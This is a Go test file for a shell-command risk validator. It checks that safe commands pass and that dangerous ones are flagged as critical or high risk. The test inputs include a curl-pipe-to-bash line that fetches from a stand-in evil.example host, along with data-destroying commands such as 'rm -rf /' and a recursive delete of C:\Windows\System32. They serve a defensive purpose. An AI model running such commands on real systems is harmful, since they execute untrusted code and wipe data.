// Copyright (c) 2024-2025 Jesse Morgan / Morgan Forge
// SPDX-License-Identifier: AGPL-3.0-or-later

package patterns

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestMatch_SafeCommandHasNoMatches(t *testing.T) {
	e := Default()
	matches, err := e.Match("ls -la /home/user", ShellBash)
	require.NoError(t, err)
	assert.Empty(t, matches)
	assert.Equal(t, RiskSafe, MaxRisk(matches))
}

func TestMatch_RmRfRootIsCritical(t *testing.T) {
	e := Default()
	matches, err := e.Match("rm -rf /", ShellBash)
	require.NoError(t, err)
	require.NotEmpty(t, matches)
	assert.Equal(t, RiskCritical, MaxRisk(matches))

	var found bool
	for _, m := range matches {
		if m.PatternID == "rm_rf_root" {
			found = true
		}
	}
	assert.True(t, found, "expected rm_rf_root pattern to match")
}

func TestMatch_CurlPipeShellIsCritical(t *testing.T) {
	e := Default()
	matches, err := e.Match("curl http://evil.example/install.sh | bash", ShellBash)
	require.NoError(t, err)
	assert.Equal(t, RiskCritical, MaxRisk(matches))
}

func TestMatch_WindowsCatalogAppliesOnlyToWindowsShells(t *testing.T) {
	e := Default()
	matches, err := e.Match(`rd /s /q C:\Windows\System32`, ShellCmd)
	require.NoError(t, err)
	assert.Equal(t, RiskCritical, MaxRisk(matches))

	// The same text under a POSIX shell should not match the Windows
	// catalog (and happens not to match any POSIX pattern either).
	matchesPosix, err := e.Match(`rd /s /q C:\Windows\System32`, ShellBash)
	require.NoError(t, err)
	assert.Empty(t, matchesPosix)
}

func TestMatch_UnparseableCommandFailsClosed(t *testing.T) {
	e := Default()
	matches, err := e.Match(`echo "unterminated`, ShellBash)
	require.Error(t, err)
	var parseErr *ParseError
	require.ErrorAs(t, err, &parseErr)
	require.Len(t, matches, 1)
	assert.Equal(t, RiskHigh, matches[0].Risk)
}

func TestMatch_FindDeleteWithAgeFilterIsModerate(t *testing.T) {
	e := Default()
	matches, err := e.Match(`find /var/log -name "*.log" -mtime +7 -delete`, ShellBash)
	require.NoError(t, err)

	var found bool
	for _, m := range matches {
		if m.PatternID == "find_delete" {
			found = true
			assert.Equal(t, RiskModerate, m.Risk)
		}
	}
	assert.True(t, found, "expected find_delete pattern to match")
}

func TestMatch_FindDeleteWithoutAgeFilterIsHigh(t *testing.T) {
	e := Default()
	matches, err := e.Match(`find /var/log -name "*.log" -delete`, ShellBash)
	require.NoError(t, err)

	var found bool
	for _, m := range matches {
		if m.PatternID == "find_delete" {
			found = true
			assert.Equal(t, RiskHigh, m.Risk)
		}
	}
	assert.True(t, found, "expected find_delete pattern to match")
}

func TestMatch_CommandNameMatchingIsCaseInsensitive(t *testing.T) {
	e := Default()
	matches, err := e.Match("SUDO apt-get update", ShellBash)
	require.NoError(t, err)

	var found bool
	for _, m := range matches {
		if m.PatternID == "sudo_invocation" {
			found = true
		}
	}
	assert.True(t, found, "expected sudo_invocation to match regardless of case")
}

func TestMatch_FlagCaseIsPreserved(t *testing.T) {
	e := Default()
	// chmod -R (capital R, recursive) must still match; a lowercase
	// chmod -r is not a real chmod flag and must not be rewritten into one.
	matches, err := e.Match("chmod -R 755 /srv/app", ShellBash)
	require.NoError(t, err)

	var found bool
	for _, m := range matches {
		if m.PatternID == "chmod_recursive" {
			found = true
		}
	}
	assert.True(t, found, "expected chmod_recursive to match chmod -R")
}

func TestCompile_CustomPatternAddedAtHighRisk(t *testing.T) {
	e, err := Compile([]string{`^\s*deploy-to-prod\b`})
	require.NoError(t, err)
	matches, err := e.Match("deploy-to-prod --now", ShellBash)
	require.NoError(t, err)
	assert.Equal(t, RiskHigh, MaxRisk(matches))
}

func TestCompile_InvalidCustomPatternErrors(t *testing.T) {
	_, err := Compile([]string{`(unclosed`})
	require.Error(t, err)
	var compileErr *CompileError
	require.ErrorAs(t, err, &compileErr)
}

func TestMaxRisk_PrecedenceCriticalOverHigh(t *testing.T) {
	matches := []Match{
		{PatternID: "a", Risk: RiskModerate},
		{PatternID: "b", Risk: RiskCritical},
		{PatternID: "c", Risk: RiskHigh},
	}
	assert.Equal(t, RiskCritical, MaxRisk(matches))
}

func TestTokenize_HandlesQuoting(t *testing.T) {
	toks, err := Tokenize(`find . -name "*.log" -mtime +7 -delete`)
	require.NoError(t, err)
	assert.Equal(t, []string{"find", ".", "-name", "*.log", "-mtime", "+7", "-delete"}, toks)
}

func TestTokenize_UnclosedQuoteErrors(t *testing.T) {
	_, err := Tokenize(`echo 'unterminated`)
	require.Error(t, err)
}

// TestMatch_Deterministic verifies §8 property 4: validation is a pure function
// of its inputs across repeated invocations.
func TestMatch_Deterministic(t *testing.T) {
	e := Default()
	cmd := "sudo rm -rf /var/log/*"
	first, err := e.Match(cmd, ShellBash)
	require.NoError(t, err)
	for i := 0; i < 1000; i++ {
		again, err := e.Match(cmd, ShellBash)
		require.NoError(t, err)
		require.Equal(t, first, again)
	}
}
